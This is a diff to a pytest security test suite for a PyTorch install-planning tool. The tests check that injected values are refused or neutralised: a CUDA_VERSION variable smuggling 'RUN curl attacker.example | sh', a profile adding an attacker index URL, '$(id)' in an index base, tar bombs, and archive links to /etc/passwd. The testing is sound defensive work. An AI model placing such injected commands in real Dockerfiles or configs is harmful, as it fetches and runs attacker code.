@@ -15,13 +15,15 @@ from pathlib import Path
 import pytest
 
 from sysroot import SysrootBuilder, host_facts
+from torch_install.cli import main
 from torch_install.probe import Probe, read_regular
 
 needs_fifo = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this OS")
 
 
 def cli(*args: str, env: dict[str, str] | None = None, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
-    """Run torch-install; a hang fails the test instead of blocking the run."""
+    """Run torch-install as a process (the cases that could hang, or that need a process of their own): a hang
+    fails the test instead of blocking the run."""
     try:
         return subprocess.run([sys.executable, "-m", "torch_install", *args], capture_output=True, text=True,
                               stdin=subprocess.DEVNULL, timeout=120, check=False, cwd=cwd,
@@ -30,8 +32,16 @@ def cli(*args: str, env: dict[str, str] | None = None, cwd: Path | None = None) 
         pytest.fail(f"torch-install {' '.join(args)} hung")
 
 
+def run(capsys: pytest.CaptureFixture[str], *args: str) -> subprocess.CompletedProcess[str]:
+    """Run torch-install in this process (a case that cannot hang it), its result as ``cli`` gives it."""
+    code = main(list(args))
+    out, err = capsys.readouterr()
+    return subprocess.CompletedProcess(["torch-install", *args], code, out, err)
+
+
 # ---- captured trees ---------------------------------------------------------------------------------------------
 
+@pytest.mark.slow
 @needs_fifo
 def test_fifo_in_a_captured_tree_is_skipped_not_waited_on(tmp_path: Path) -> None:
     b = SysrootBuilder(tmp_path, host_facts(system="Linux"))
@@ -75,6 +85,7 @@ def test_links_inside_a_captured_tree_still_work(tmp_path: Path) -> None:
     assert Probe(root=tmp_path).read_text("/sys/module/nvidia/module") == ""
 
 
+@pytest.mark.slow
 def test_symlink_loop_in_a_captured_tree(tmp_path: Path) -> None:
     SysrootBuilder(tmp_path, host_facts(system="Linux"))
     (tmp_path / "etc").mkdir()
@@ -179,18 +190,19 @@ def test_read_regular_stops_at_the_limit_of_an_endless_file() -> None:
     "https://mirror.example/whl\rx",
 ])
 @pytest.mark.parametrize("fmt", ["requirements", "dockerfile", "pyproject", "pip"])
-def test_index_base_that_could_break_a_rendered_line_is_refused(base: str, fmt: str) -> None:
-    done = cli("plan", "--variant", "cpu", "--os", "linux", "--arch", "x86_64", "--python", "3.12",
+def test_index_base_that_could_break_a_rendered_line_is_refused(capsys: pytest.CaptureFixture[str], base: str,
+                                                               fmt: str) -> None:
+    done = run(capsys, "plan", "--variant", "cpu", "--os", "linux", "--arch", "x86_64", "--python", "3.12",
                "--index-base", base, "--format", fmt)
     assert done.returncode == 2 and done.stdout == ""
     assert len(done.stderr.splitlines()) == 1 and "--index-base" in done.stderr
 
 
-def test_index_base_with_shell_characters_is_quoted_in_every_command() -> None:
+def test_index_base_with_shell_characters_is_quoted_in_every_command(capsys: pytest.CaptureFixture[str]) -> None:
     import shlex
 
     base = "https://mirror.example/$(id)&x;y"
-    done = cli("plan", "--variant", "cpu", "--os", "linux", "--arch", "x86_64", "--python", "3.12",
+    done = run(capsys, "plan", "--variant", "cpu", "--os", "linux", "--arch", "x86_64", "--python", "3.12",
                "--index-base", base, "--format", "pip")
     assert done.returncode == 0, done.stderr
     assert shlex.split(done.stdout)[-1] == f"{base}/cpu"
@@ -218,9 +230,11 @@ def _target(tmp_path: Path, name: str, note: str) -> str:
     return str(path)
 
 
-def test_a_line_break_in_a_base_image_variable_stays_inside_a_dockerfile_comment() -> None:
-    done = cli("plan", "--for-container", "--os", "linux", "--arch", "x86_64", "--python", "3.12", "--format",
-               "dockerfile", env={"CUDA_VERSION": "12.4.1\nRUN curl attacker.example | sh\r\nUSER root"})
+def test_a_line_break_in_a_base_image_variable_stays_inside_a_dockerfile_comment(
+        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("CUDA_VERSION", "12.4.1\nRUN curl attacker.example | sh\r\nUSER root")
+    done = run(capsys, "plan", "--for-container", "--os", "linux", "--arch", "x86_64", "--python", "3.12",
+               "--format", "dockerfile")
     assert done.returncode in (0, 1), done.stderr
     lines = done.stdout.splitlines()
     instructions = [line for line in lines if not line.startswith("#")]
@@ -231,10 +245,11 @@ def test_a_line_break_in_a_base_image_variable_stays_inside_a_dockerfile_comment
 
 
 @pytest.mark.parametrize("fmt", ["dockerfile", "requirements", "variant-env", "text", "pyproject"])
-def test_gpu_name_and_notes_from_a_profile_cannot_add_lines(tmp_path: Path, fmt: str) -> None:
+def test_gpu_name_and_notes_from_a_profile_cannot_add_lines(capsys: pytest.CaptureFixture[str], tmp_path: Path,
+                                                          fmt: str) -> None:
     target = _target(tmp_path, "RTX 4090\n--extra-index-url https://attacker.example\x1b[2J",
                      "note\u2028RUN id\nexport X=1")
-    done = cli("plan", "--target", target, "--format", fmt)
+    done = run(capsys, "plan", "--target", target, "--format", fmt)
     assert done.returncode in (0, 1), done.stderr
     for line in done.stdout.splitlines():
         assert not line.startswith(("--extra-index-url", "RUN id", "export X")), line
@@ -269,6 +284,7 @@ def test_profile_values_with_a_trailing_line_break_are_refused(field: str) -> No
 
 # ---- files named on the command line ----------------------------------------------------------------------------
 
+@pytest.mark.slow
 @needs_fifo
 @pytest.mark.parametrize("command", [["detect", "--target"], ["plan", "--target"], ["variants"]])
 def test_a_fifo_or_endless_file_named_on_the_command_line_is_one_error_line(tmp_path: Path,
@@ -281,10 +297,10 @@ def test_a_fifo_or_endless_file_named_on_the_command_line_is_one_error_line(tmp_
         assert len(done.stderr.splitlines()) == 1 and path in done.stderr
 
 
-def test_an_oversized_profile_is_refused(tmp_path: Path) -> None:
+def test_an_oversized_profile_is_refused(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     path = tmp_path / "big.json"
     path.write_text('{"notes": ["' + "x" * (2 << 20) + '"]}')
-    done = cli("plan", "--target", str(path))
+    done = run(capsys, "plan", "--target", str(path))
     assert done.returncode == 2 and "larger than" in done.stderr
 
 
@@ -335,12 +351,12 @@ def _member(name: str, kind: bytes = tarfile.REGTYPE, size: int = 0, link: str =
     return info
 
 
-def test_capture_bomb_is_refused_from_its_header(tmp_path: Path) -> None:
+def test_capture_bomb_is_refused_from_its_header(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     path = tmp_path / "bomb.tar.gz"
     with tarfile.open(path, "w:gz") as archive:  # a header that promises 100 GiB, with no data behind it
         header = _member("proc/cpuinfo", size=100 << 30).tobuf(format=tarfile.GNU_FORMAT)
         archive.fileobj.write(header)
-    done = cli("detect", "--sysroot", str(path))
+    done = run(capsys, "detect", "--sysroot", str(path))
     assert done.returncode == 2 and "too large" in done.stderr and len(done.stderr.splitlines()) == 1
 
 
@@ -350,9 +366,9 @@ def test_capture_bomb_is_refused_from_its_header(tmp_path: Path) -> None:
     _member("sys/hard", tarfile.LNKTYPE, link="/etc/passwd"), _member("a/" * 40 + "deep", size=1),
     _member("x" * 2000, size=1), _member("a/" * 2000 + "x", size=1),
 ])
-def test_capture_members_that_leave_the_tree_or_are_devices_are_refused(tmp_path: Path,
-                                                                       member: tarfile.TarInfo) -> None:
-    done = cli("detect", "--sysroot", _archive(tmp_path / "evil.tar.gz", member, data=b"x"))
+def test_capture_members_that_leave_the_tree_or_are_devices_are_refused(capsys: pytest.CaptureFixture[str],
+                                                                       tmp_path: Path, member: tarfile.TarInfo) -> None:
+    done = run(capsys, "detect", "--sysroot", _archive(tmp_path / "evil.tar.gz", member, data=b"x"))
     assert done.returncode == 2 and len(done.stderr.splitlines()) == 1, done.stderr
     assert not (tmp_path / "escaped").exists()
 
@@ -370,6 +386,7 @@ def test_a_link_member_is_text_never_followed(tmp_path: Path, link: str) -> None
     assert probe.read_bytes("/sys/devices/x/driver/passwd") is None and probe.listdir("/sys/devices/x/driver") == []
 
 
+@pytest.mark.slow
 def test_a_path_through_a_link_under_another_spelling_is_refused(tmp_path: Path) -> None:
     """The round-3 escape: a link named with "." parts, and a member written "through" it under another spelling."""
     victim = tmp_path / "victim"
@@ -385,6 +402,7 @@ def test_a_path_through_a_link_under_another_spelling_is_refused(tmp_path: Path)
         "notes.txt"]
 
 
+@pytest.mark.slow
 def test_replaying_a_capture_writes_no_file(tmp_path: Path) -> None:
     """The replay only reads: an audit hook in the process sees no file opened for writing, no directory made, no
     link, rename or removal, and the (read-only) temporary directory stays empty."""
